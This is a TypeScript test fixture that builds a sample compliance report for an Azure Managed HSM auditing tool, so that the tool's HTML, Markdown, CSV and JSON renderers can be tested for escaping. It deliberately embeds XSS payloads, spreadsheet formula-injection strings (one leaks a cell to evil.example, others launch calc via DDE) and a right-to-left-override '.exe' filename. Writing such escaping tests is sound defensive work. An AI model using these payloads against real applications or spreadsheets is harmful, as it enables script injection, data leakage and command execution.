/**
 * A realistic ComplianceReport for the renderer tests, built by the real `evaluate` over hand-written
 * controls (the real ones are still being written): PASS, FAIL and UNKNOWN results in every area and
 * severity, a control that throws, collection errors — and names and messages that try to break out
 * of HTML, Markdown, CSV and JSON.
 */
import { hsmRef, keyRef } from "../../../src/lib/estate/partRef.js";
import type { PolicyDocument } from "../../../src/lib/config/types.js";
import { evaluate, type ComplianceReport } from "../../../src/lib/compliance/evaluate.js";
import type { Control, ControlMetadata, ControlResult, EvidenceValue, Severity, Status } from "../../../src/lib/compliance/types.js";
import type { CollectionError, EstateSnapshot } from "../../../src/lib/estate/snapshot.js";

export const COLLECTED_AT = "2025-06-01T08:00:00.000Z";
export const EVALUATED_AT = new Date("2025-06-01T08:05:00.000Z");

const SUB = "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-prod-crypto/providers";
const HSM_ID = `${SUB}/Microsoft.KeyVault/managedHSMs/Contoso-PROD-HSM`;
const HOSTILE_HSM_ID = `${SUB}/Microsoft.KeyVault/managedHSMs/hsm-<script>alert(1)</script>`;
const KEY = (name: string): string => `https://contoso-prod-hsm.managedhsm.azure.net/keys/${name}`;

/** Payloads that, if they ever became markup in the HTML report, set window.__pwned or open a dialog. */
export const SCRIPT_PAYLOADS = {
  scriptTag: "<script>window.__pwned=1;alert(1)</script>",
  imgOnerror: `<img src=x onerror="window.__pwned=1">`,
  attributeBreakout: `"><img src=x onerror=alert(1)>`,
  singleQuoteBreakout: `'><svg onload='window.__pwned=1'>`,
  backtickBreakout: "`><svg/onload=alert`1`>",
  javascriptUrl: "javascript:window.__pwned=1",
  anchor: `<a href="javascript:alert(1)">click me</a>`,
  preBreakout: "</pre><script>window.__pwned=1</script><pre>",
  titleBreakout: "</title><script>alert(1)</script>",
  styleBreakout: "</style><script>alert(1)</script>",
  comment: "<!-- <script>alert(1)</script> -->",
  metaRefresh: `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  iframe: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  details: "<details open ontoggle=alert(1)>",
  entity: "&lt;script&gt;alert(1)&lt;/script&gt;",
} as const;

/** Cells a spreadsheet would run as formulas. */
export const FORMULA_PAYLOADS = {
  hyperlink: `=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
  plusCmd: "+cmd|' /C calc'!A0",
  atSum: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  tab: "\t=1+1",
  carriageReturn: "\r=1+1",
} as const;

/** Text that breaks naive Markdown/CSV: pipes, backticks, emphasis, links, newlines, commas, quotes. */
export const MARKDOWN_PAYLOADS = {
  pipes: "key | with | pipes || and \\| escaped",
  backticks: "```\nfenced ``` and `inline` ````",
  emphasis: "**bold** _it_ ~~strike~~ $x^2$",
  link: "[click](javascript:alert(1)) ![img](x)",
  multiline: 'line one\nline two, with "quotes", commas\r\nand a CRLF',
} as const;

export const UNICODE_NAME = "sqlmi-прод-数据库-🔑-Ünïcødé-\u202Egnp.exe";

function metadata(
  id: string,
  area: ControlMetadata["area"],
  severity: Severity,
  title: string,
  extra: Partial<ControlMetadata> = {},
): ControlMetadata {
  return {
    id,
    area,
    title,
    severity,
    risk: `If ${title.toLowerCase()} is not true, customer data protected by the HSM is at risk.`,
    remediation: {
      summary: `Fix ${id}.`,
      cli: `az keyvault update-hsm --hsm-name <hsm-name> --resource-group <resource-group> # ${id}`,
    },
    mappings: { pciDss: [], cis: [], azurePolicy: [] },
    ...extra,
  };
}

function result(
  controlId: string,
  status: Status,
  severity: Severity,
  resourceId: string,
  resourceName: string,
  message: string,
  observed: EvidenceValue,
  expected: EvidenceValue,
  collectionErrors?: CollectionError[],
): ControlResult {
  return {
    controlId,
    status,
    severity,
    resourceId,
    resourceName,
    message,
    evidence: { observed, expected, observedAt: COLLECTED_AT, ...(collectionErrors ? { collectionErrors } : {}) },
  };
}

const control = (meta: ControlMetadata, results: (id: string) => ControlResult[]): Control => ({ metadata: meta, check: () => results(meta.id) });

const hsmForbidden: CollectionError = {
  part: "managedHsm.privateEndpointConnections",
  about: hsmRef(HOSTILE_HSM_ID),
  resourceId: HOSTILE_HSM_ID,
  operation: "privateEndpointConnections.list",
  statusCode: 403,
  code: "AuthorizationFailed",
  message: `The client '${SCRIPT_PAYLOADS.iframe}' does not have authorization to perform action, "quoted", with, commas`,
};

const rotationPolicyMissing: CollectionError = {
  part: "key.rotationPolicy",
  about: keyRef(HOSTILE_HSM_ID, FORMULA_PAYLOADS.minus),
  resourceId: KEY(FORMULA_PAYLOADS.minus),
  operation: "keys.getKeyRotationPolicy",
  statusCode: 404,
  code: "KeyNotFound",
  message: MARKDOWN_PAYLOADS.multiline,
};

export function sampleControls(): Control[] {
  return [
    control(
      metadata("hsm_purge_protection_enabled", "hsm", "critical", "Managed HSM has soft delete and purge protection enabled", {
        risk: "Without purge protection a deleted HSM or key can be purged at once, destroying every DEK it wraps and the data behind them.",
        remediation: {
          summary: "Enable purge protection (it cannot be turned off again) and keep soft delete on.",
          cli: "az keyvault update-hsm --hsm-name <hsm-name> --resource-group <resource-group> --enable-purge-protection true",
          bicep: "resource hsm 'Microsoft.KeyVault/managedHSMs@2025-05-01': set properties.enableSoftDelete: true and properties.enablePurgeProtection: true",
        },
        mappings: { pciDss: ["3.7.3", "3.7.5"], cis: ["2.0.0 8.5", "3.0.0 3.3.5", "4.0.0 9.3.5"], azurePolicy: ["c39ba22d-4428-4149-b981-70acb31fc383"] },
      }),
      (id) => [
        result(id, "PASS", "critical", HSM_ID, "Contoso-PROD-HSM", "Purge protection and soft delete are enabled.", { enablePurgeProtection: true, enableSoftDelete: true }, { enablePurgeProtection: true, enableSoftDelete: true }),
        result(
          id,
          "FAIL",
          "critical",
          HOSTILE_HSM_ID,
          SCRIPT_PAYLOADS.scriptTag,
          `Purge protection is disabled on ${SCRIPT_PAYLOADS.attributeBreakout}.`,
          { enablePurgeProtection: false, enableSoftDelete: true, tags: { owner: SCRIPT_PAYLOADS.preBreakout, note: SCRIPT_PAYLOADS.titleBreakout } },
          { enablePurgeProtection: true, enableSoftDelete: true },
        ),
      ],
    ),
    control(
      metadata("hsm_public_network_access_disabled", "hsm", "high", "Managed HSM disables public network access and uses a private endpoint", {
        mappings: { pciDss: ["1.4.4"], cis: ["4.0.0 9.3.7", "4.0.0 9.3.8"], azurePolicy: ["19ea9d63-adee-4431-a95e-1913c6c1c75f", "59fee2f4-d439-4f1b-9b9a-982e1474bfd8"] },
      }),
      (id) => [
        result(id, "PASS", "high", HSM_ID, "Contoso-PROD-HSM", "Public network access is disabled; one approved private endpoint.", { publicNetworkAccess: "Disabled", privateEndpoints: 1 }, { publicNetworkAccess: "Disabled", privateEndpoints: ">= 1" }),
        result(
          id,
          "UNKNOWN",
          "high",
          HOSTILE_HSM_ID,
          SCRIPT_PAYLOADS.imgOnerror,
          `Private endpoint connections could not be read: ${SCRIPT_PAYLOADS.singleQuoteBreakout}`,
          null,
          { publicNetworkAccess: "Disabled", privateEndpoints: ">= 1" },
          [hsmForbidden],
        ),
      ],
    ),
    control(
      metadata("keys_expiration_set", "keys", "high", "Keys have an expiration date", {
        mappings: { pciDss: ["3.7.4"], cis: ["2.0.0 8.1", "3.0.0 3.3.1"], azurePolicy: ["1d478a74-21ba-4b9f-9d8f-8e6fced0eec5"] },
      }),
      (id) => [
        result(id, "FAIL", "high", KEY("hyperlink"), FORMULA_PAYLOADS.hyperlink, FORMULA_PAYLOADS.hyperlink, { expires: null }, { expires: "set, <= P2Y from creation" }),
        result(id, "FAIL", "high", KEY("plus"), FORMULA_PAYLOADS.plusCmd, `${FORMULA_PAYLOADS.atSum} has no expiry`, { expires: null, attributes: [FORMULA_PAYLOADS.tab, -1, "=1+1"] }, { expires: "set" }),
        result(id, "PASS", "high", KEY("cmk-sql"), "cmk-sql", "Expires 2026-05-01.", { expires: "2026-05-01T00:00:00Z" }, { expires: "set" }),
      ],
    ),
    control(
      metadata("keys_rotation_policy_configured", "keys", "medium", "Keys rotate automatically within the cryptoperiod", {
        remediation: {
          summary: "Set a rotation policy that rotates before expiry and notifies 30 days ahead.",
          cli: "az keyvault key rotation-policy update --hsm-name <hsm-name> --name <key-name> --value @policy.json",
          bicep: "Not settable in Bicep for Managed HSM keys; use the data-plane API.",
        },
        mappings: { pciDss: ["3.7.4", "3.7.5"], cis: ["2.0.0 8.8", "4.0.0 9.3.9"], azurePolicy: [] },
      }),
      (id) => [
        // Graded: a rotation slightly overdue is reported below the control's severity.
        result(id, "FAIL", "low", KEY("at-sum"), FORMULA_PAYLOADS.atSum, "Last rotation is 3 days past the policy's P90D.", { lastRotated: "2025-02-28T00:00:00Z", policy: "P90D" }, { rotatedWithin: "P90D" }),
        result(id, "UNKNOWN", "medium", KEY(FORMULA_PAYLOADS.minus), FORMULA_PAYLOADS.minus, "The rotation policy could not be read.", null, { rotationPolicy: "present" }, [rotationPolicyMissing]),
        result(id, "FAIL", "medium", KEY("carriage"), FORMULA_PAYLOADS.carriageReturn, FORMULA_PAYLOADS.tab, { rotationPolicy: null }, { rotationPolicy: "present" }),
      ],
    ),
    control(
      metadata("rbac_least_privilege", "rbac", "high", "HSM RBAC grants no broad administrator roles to applications", {
        mappings: { pciDss: ["7.2.1", "7.2.2", "7.2.5"], cis: [], azurePolicy: [] },
      }),
      (id) => [
        result(
          id,
          "FAIL",
          "high",
          "/keys/" + MARKDOWN_PAYLOADS.pipes,
          MARKDOWN_PAYLOADS.pipes,
          `${MARKDOWN_PAYLOADS.multiline} ${MARKDOWN_PAYLOADS.emphasis} ${MARKDOWN_PAYLOADS.link}`,
          { roleDefinitionName: "Managed HSM Administrator", principal: { name: MARKDOWN_PAYLOADS.backticks, type: "ServicePrincipal" }, scopes: ["/", "/keys"] },
          { roles: ["Managed HSM Crypto Service Encryption User"] },
        ),
        result(id, "FAIL", "high", "/keys/backticks", MARKDOWN_PAYLOADS.backticks, SCRIPT_PAYLOADS.details, { x: SCRIPT_PAYLOADS.entity }, { x: SCRIPT_PAYLOADS.comment }),
      ],
    ),
    control(
      metadata("sql_tde_cmk", "sql", "high", "SQL managed instances use an HSM key as TDE protector", {
        mappings: { pciDss: ["3.5.1.1"], cis: ["2.0.0 4.1.3", "3.0.0 5.1.3"], azurePolicy: ["ac01ad65-10e5-46df-bdd9-6b0cad13e1d2"] },
      }),
      (id) => [
        result(id, "PASS", "high", `${SUB}/Microsoft.Sql/managedInstances/sqlmi-unicode`, UNICODE_NAME, "TDE protector is an HSM key.", { serverKeyType: "AzureKeyVault" }, { serverKeyType: "AzureKeyVault" }),
      ],
    ),
    control(
      metadata("disks_cmk", "disks", "medium", "Managed disks are encrypted with a customer-managed key", {
        mappings: { pciDss: ["3.5.1.1"], cis: ["2.0.0 7.3", "3.0.0 8.3"], azurePolicy: ["702dd420-7fcc-42c5-afe8-4026edd20fe0"] },
      }),
      (id) => [
        result(id, "PASS", "medium", `${SUB}/Microsoft.Compute/disks/vm-app-01_OsDisk`, "vm-app-01_OsDisk", "Encrypted with des-prod.", { type: "EncryptionAtRestWithCustomerKey" }, { type: "EncryptionAtRestWithCustomerKey" }),
        result(id, "PASS", "medium", `${SUB}/Microsoft.Compute/disks/vm-app-01_Data0`, "vm-app-01_Data0", "Encrypted with des-prod.", { type: "EncryptionAtRestWithCustomerKey" }, { type: "EncryptionAtRestWithCustomerKey" }),
      ],
    ),
    control(
      metadata("storage_cmk", "storage", "medium", "Storage accounts are encrypted with an HSM key", {
        mappings: { pciDss: ["3.5.1.1"], cis: ["2.0.0 3.12", "3.0.0 4.11"], azurePolicy: ["6fac406b-40ca-413b-bf8e-0bf964659c25"] },
      }),
      (id) => [
        result(
          id,
          "FAIL",
          "medium",
          `${SUB}/Microsoft.Storage/storageAccounts/${SCRIPT_PAYLOADS.javascriptUrl}`,
          SCRIPT_PAYLOADS.javascriptUrl,
          `Encrypted with Microsoft-managed keys. ${SCRIPT_PAYLOADS.anchor} ${SCRIPT_PAYLOADS.metaRefresh}`,
          { keySource: "Microsoft.Storage", note: SCRIPT_PAYLOADS.styleBreakout },
          { keySource: "Microsoft.Keyvault" },
        ),
        result(id, "FAIL", "medium", `${SUB}/Microsoft.Storage/storageAccounts/stunicode`, `${UNICODE_NAME}-storage`, "Encrypted with Microsoft-managed keys.", { keySource: "Microsoft.Storage" }, { keySource: "Microsoft.Keyvault" }),
      ],
    ),
    control(metadata("keys_version_headroom", "keys", "info", "Keys are far from Managed HSM's 100-version cap"), (id) => [
      result(id, "PASS", "info", KEY("cmk-sql"), "cmk-sql", "12 versions of 100.", { versions: 12 }, { versionsAtMost: 90 }),
    ]),
    // A control with a bug: evaluate turns the throw into an UNKNOWN result with an empty resource id.
    {
      metadata: metadata("keys_type_allowed", "keys", "low", "Keys use an allowed type and size", {
        mappings: { pciDss: ["3.6.1"], cis: [], azurePolicy: ["1fd3b2cc-9904-40fa-b8da-050c02612da9", "86810a98-8e91-4a44-8386-ec66d0de5d57"] },
      }),
      check: () => {
        throw new TypeError(`Cannot read properties of undefined (reading 'kty') ${SCRIPT_PAYLOADS.backtickBreakout}`);
      },
    },
  ];
}

export function sampleSnapshot(): EstateSnapshot {
  return {
    schemaVersion: 2,
    collectedAt: COLLECTED_AT,
    cloud: "AzurePublicCloud",
    subscriptions: ["00000000-0000-0000-0000-000000000001"],
    managedHsms: [],
    consumers: { sqlManagedInstances: [], diskEncryptionSets: [], disks: [], virtualMachines: [], storageAccounts: [] },
    errors: [hsmForbidden, rotationPolicyMissing],
  };
}

export function sampleReport(): ComplianceReport {
  // The sample's controls never read the policy.
  const policy = {} as PolicyDocument;
  return evaluate(sampleSnapshot(), policy, sampleControls(), { now: EVALUATED_AT });
}

/** Every result of the report, in report order. */
export function allResults(report: ComplianceReport): ControlResult[] {
  return report.controls.flatMap((o) => o.results);
}
